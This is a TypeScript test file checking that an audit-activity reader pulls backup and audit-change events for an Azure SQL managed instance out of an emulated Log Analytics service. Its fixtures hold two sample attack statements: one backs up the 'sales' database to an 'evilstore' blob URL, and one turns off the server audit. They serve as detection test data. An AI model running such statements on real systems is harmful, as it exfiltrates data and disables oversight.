import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { LogsQueryClient, LogsQueryResultStatus } from "@azure/monitor-query-logs";
import { ManagedIdentityCredential } from "@azure/identity";
import { startEmulator } from "../../emulator/server.js";
import type { RunningEmulator } from "../../emulator/server.js";
import { shippedFleet } from "../../emulator/fleets/paths.js";
import type { AzureClients } from "../../src/azure/clients.js";
import { clientsFor } from "../support/emulator-clients.js";
import { readAuditActivity } from "../../src/azure/audit-activity.js";
import type { SqlAuditRecord } from "../../emulator/sql/contracts.js";

// The Log Analytics and Resource Graph adapters, with the real SDK clients, against the emulator's KQL services.
const SUB = "11111111-1111-4111-8111-111111111111";
const MI = `/subscriptions/${SUB}/resourceGroups/rg-data/providers/Microsoft.Sql/managedInstances/mi-good`;


function record(over: Partial<SqlAuditRecord>): SqlAuditRecord {
  return {
    event_time: new Date(),
    action_id: "BA",
    action_name: "BACKUP",
    class_type: "DB",
    succeeded: true,
    session_id: 61,
    server_principal_name: "mallory@corp.example",
    database_name: "sales",
    statement: "BACKUP DATABASE [sales] TO URL = N'https://evilstore.blob.core.windows.net/c/sales.bak' WITH COPY_ONLY",
    client_ip: "10.0.0.9",
    application_name: "SSMS",
    server_instance_name: "mi-good",
    event_id: "6f9619ff-8b86-d011-b42d-00c04fc964ff",
    audit_name: "BackupRestoreAudit",
    ...over,
  };
}

describe("audit activity from Log Analytics", () => {
  let emu: RunningEmulator;
  let clients: AzureClients;
  // Rows arrive stamped with the estate's clock (TimeGenerated is ingestion time): move it to append history.
  const present = Date.now();
  let clock = present;
  before(async () => {
    emu = await startEmulator({ fleetFile: shippedFleet("test-small.yaml"), now: () => new Date(clock) });
    clients = clientsFor(emu);
  });
  const appendAt = (at: number, over: Partial<SqlAuditRecord>) => {
    clock = at;
    try {
      return emu.estate.appendAuditRecord(MI, record({ event_time: new Date(at), ...over }));
    } finally {
      clock = present;
    }
  };
  after(() => emu?.stop());

  it("reads the target's backups and audit changes in the window, resource-centric, oldest first", async () => {
    const now = present;
    assert.equal(appendAt(now - 20 * 60_000, {}).delivered, true);
    appendAt(now - 10 * 60_000, { action_id: "AL", action_name: "ALTER", class_type: "A", statement: "ALTER SERVER AUDIT [BackupRestoreAudit] WITH (STATE = OFF)" });
    appendAt(now - 5 * 60_000, { action_id: "LGIS", action_name: "LOGIN SUCCEEDED", statement: "" });
    appendAt(now - 5 * 3600_000, {});
    const activity = await readAuditActivity(clients, MI, { from: new Date(now - 3600_000), to: new Date(now), silenceSince: new Date(now - 24 * 3600_000) });
    assert.equal(activity.partial, false);
    assert.deepEqual(activity.events.map((e) => e.actionId), ["BA", "AL"], "only backup/restore/audit-change actions, only in the window");
    assert.match(activity.events[0]!.statement, /COPY_ONLY/);
    assert.equal(activity.events[0]!.serverPrincipalName, "mallory@corp.example");
    assert.equal(activity.events[0]!.succeeded, true);
    assert.equal(activity.events[1]!.classType, "A");
    assert.ok(activity.lastEventTime && Date.parse(activity.lastEventTime) >= now - 5 * 60_000 - 1000);
  });

  it("another instance's events are not this instance's", async () => {
    const other = `/subscriptions/${SUB}/resourceGroups/rg-data/providers/Microsoft.Sql/managedInstances/mi-nodiag`;
    const activity = await readAuditActivity(clients, other, { from: new Date(Date.now() - 3600_000), to: new Date() });
    assert.deepEqual(activity.events, []);
  });

  it("the SDK's errors and the service's error shapes come through", async () => {
    const logs = new LogsQueryClient(new ManagedIdentityCredential(), { endpoint: emu.logAnalyticsUrl, tlsOptions: { ca: emu.caPem } });
    const workspace = emu.estate.allWorkspaces()[Symbol.iterator]().next().value!;
    const ok = await logs.queryWorkspace(workspace.customerId, "AzureDiagnostics | where action_id_s == 'BA' | summarize n = count()", { duration: "P30D" });
    assert.equal(ok.status, LogsQueryResultStatus.Success);
    assert.ok(ok.status === LogsQueryResultStatus.Success && Number(ok.tables[0]!.rows[0]![0]) >= 1);
    await assert.rejects(logs.queryWorkspace(workspace.customerId, "AzureDiagnostics | frobnicate", { duration: "P1D" }), (e: { statusCode?: number; code?: string }) => e.statusCode === 400 && e.code === "BadArgumentError");
    await assert.rejects(logs.queryWorkspace("00000000-0000-0000-0000-000000000000", "AzureDiagnostics", { duration: "P1D" }), (e: { statusCode?: number }) => e.statusCode === 404);
  });
});

